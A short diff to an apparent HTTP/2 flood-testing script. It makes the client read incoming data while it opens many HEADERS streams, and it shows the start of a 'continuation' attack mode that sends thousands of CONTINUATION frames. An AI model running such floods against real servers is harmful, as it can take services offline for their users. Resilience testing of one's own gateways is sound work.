@@ -139,8 +139,11 @@ def main():
             if not c.send(frame(HEADERS, END_HEADERS, sid, req_block(path))):
                 break
             sid += 2
-            if i % 50 == 0:
-                c.pump(0.05)
+            # read as we go: a client that never reads fills its receive
+            # window, the GOAWAY then waits in the server's send queue and
+            # is lost to the RST of a close with our unread HEADERS behind
+            # it (TCP semantics, not the gateway's choice)
+            c.pump(0.05 if i % 50 == 0 else 0.0)
     elif attack == "continuation":
         c.send(frame(HEADERS, 0, 1, req_block(path)))
         for i in range(5000):
